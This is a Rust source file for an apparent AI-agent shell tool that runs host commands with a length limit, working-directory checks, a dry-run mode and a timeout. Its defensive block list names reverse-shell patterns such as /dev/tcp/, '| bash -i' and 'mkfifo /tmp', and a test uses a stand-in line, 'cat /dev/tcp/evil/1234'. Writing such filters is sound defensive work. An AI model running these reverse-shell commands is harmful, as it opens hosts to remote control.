use super::{get_bool, get_str, get_u64, param};
use crate::model::{ActionDescriptor, ParamType, WorkerResult};
use crate::safety::risk::Risk;
use crate::tools::Worker;
use anyhow::Result;
use async_trait::async_trait;
use serde_json::Value;
use std::collections::HashMap;
use std::path::Path;
use std::time::Duration;

/// Returns the platform-appropriate shell and flag for command execution.
pub fn default_shell() -> (&'static str, &'static str) {
    if cfg!(target_os = "windows") {
        ("cmd", "/C")
    } else {
        ("sh", "-c")
    }
}

pub struct ShellWorker;

const MAX_COMMAND_LENGTH: usize = 10_000;
const DANGEROUS_PATTERNS: &[&str] = &["/dev/tcp/", "/dev/udp/", "| bash -i", "| sh -i", "mkfifo /tmp"];

#[async_trait]
impl Worker for ShellWorker {
    fn name(&self) -> &str {
        "shell"
    }

    fn description(&self) -> &str {
        "Execute shell commands on the host"
    }

    fn actions(&self) -> Vec<ActionDescriptor> {
        vec![ActionDescriptor {
            name: "execute_command".to_string(),
            params: vec![
                param("command", ParamType::String, true, "the shell command to run"),
                param("cwd", ParamType::String, false, "working directory, absolute path"),
                param("timeout_secs", ParamType::Int, false, "timeout in seconds, default 60"),
                param("env", ParamType::Object, false, "additional environment variables"),
            ],
            risk_hint: Risk::Medium,
            open_schema: false,
        }]
    }

    async fn execute(&self, action: &str, args: &HashMap<String, Value>, dry_run: bool) -> Result<WorkerResult> {
        if action != "execute_command" {
            return Ok(WorkerResult::failed(format!("unknown action: {action}")));
        }

        let Some(command) = get_str(args, "command") else {
            return Ok(WorkerResult::failed("missing required argument: command"));
        };
        if command.len() > MAX_COMMAND_LENGTH {
            return Ok(WorkerResult::failed(format!(
                "command exceeds maximum length of {MAX_COMMAND_LENGTH} characters"
            )));
        }
        let lower = command.to_lowercase();
        for pattern in DANGEROUS_PATTERNS {
            if lower.contains(pattern) {
                return Ok(WorkerResult::failed(format!(
                    "blocked potentially dangerous shell pattern: {pattern}"
                )));
            }
        }

        let cwd = get_str(args, "cwd");
        if let Some(cwd) = &cwd {
            let p = Path::new(cwd);
            if !p.is_absolute() {
                return Ok(WorkerResult::failed(format!("cwd must be an absolute path, got: {cwd}")));
            }
            if p.components().any(|c| matches!(c, std::path::Component::ParentDir)) {
                return Ok(WorkerResult::failed(format!("cwd must not contain path traversal: {cwd}")));
            }
        }

        if dry_run {
            let mut result = WorkerResult::ok(format!("dry run: would execute `{command}`"));
            result.simulated = true;
            result.data = Some(serde_json::json!({"command": command, "cwd": cwd}));
            return Ok(result);
        }

        let timeout_secs = get_u64(args, "timeout_secs", 60);
        let (shell, flag) = default_shell();
        let mut cmd = tokio::process::Command::new(shell);
        cmd.kill_on_drop(true);
        cmd.arg(flag).arg(&command);
        if let Some(cwd) = &cwd {
            cmd.current_dir(cwd);
        }
        if let Some(env) = args.get("env").and_then(|v| v.as_object()) {
            for (k, v) in env {
                if let Some(s) = v.as_str() {
                    cmd.env(k, s);
                }
            }
        }

        let output = tokio::time::timeout(Duration::from_secs(timeout_secs), cmd.output()).await;
        match output {
            Ok(Ok(output)) => {
                let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
                let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
                let success = output.status.success();
                let mut result = if success {
                    WorkerResult::ok(format!("exit {}", output.status.code().unwrap_or(-1)))
                } else {
                    WorkerResult::failed(format!("exit {}", output.status.code().unwrap_or(-1)))
                };
                result.data = Some(serde_json::json!({"exit_code": output.status.code()}));
                result.raw_output = Some(format!("{stdout}\n{stderr}"));
                Ok(result)
            }
            Ok(Err(e)) => Ok(WorkerResult::failed(format!("failed to spawn command: {e}"))),
            Err(_) => Ok(WorkerResult::failed("command timed out")),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn dry_run_is_simulated_and_does_not_execute() {
        let worker = ShellWorker;
        let mut args = HashMap::new();
        args.insert("command".to_string(), serde_json::json!("echo hi"));
        let result = worker.execute("execute_command", &args, true).await.unwrap();
        assert!(result.simulated);
        assert!(result.success);
    }

    #[tokio::test]
    async fn real_run_executes_and_captures_output() {
        let worker = ShellWorker;
        let mut args = HashMap::new();
        args.insert("command".to_string(), serde_json::json!("echo hello"));
        let result = worker.execute("execute_command", &args, false).await.unwrap();
        assert!(result.success);
        assert!(result.raw_output.unwrap().contains("hello"));
    }

    #[tokio::test]
    async fn rejects_overlong_command() {
        let worker = ShellWorker;
        let mut args = HashMap::new();
        args.insert("command".to_string(), serde_json::json!("a".repeat(20_000)));
        let result = worker.execute("execute_command", &args, false).await.unwrap();
        assert!(!result.success);
    }

    #[tokio::test]
    async fn rejects_dangerous_pattern() {
        let worker = ShellWorker;
        let mut args = HashMap::new();
        args.insert("command".to_string(), serde_json::json!("cat /dev/tcp/evil/1234"));
        let result = worker.execute("execute_command", &args, false).await.unwrap();
        assert!(!result.success);
    }

    #[tokio::test]
    async fn rejects_relative_cwd() {
        let worker = ShellWorker;
        let mut args = HashMap::new();
        args.insert("command".to_string(), serde_json::json!("pwd"));
        args.insert("cwd".to_string(), serde_json::json!("relative/path"));
        let result = worker.execute("execute_command", &args, false).await.unwrap();
        assert!(!result.success);
    }

    #[tokio::test]
    async fn unknown_action_fails() {
        let worker = ShellWorker;
        let result = worker.execute("bogus", &HashMap::new(), false).await.unwrap();
        assert!(!result.success);
    }

    #[test]
    fn advertises_single_action_with_medium_risk_hint() {
        let worker = ShellWorker;
        let actions = worker.actions();
        assert_eq!(actions.len(), 1);
        assert_eq!(actions[0].risk_hint, Risk::Medium);
    }
}
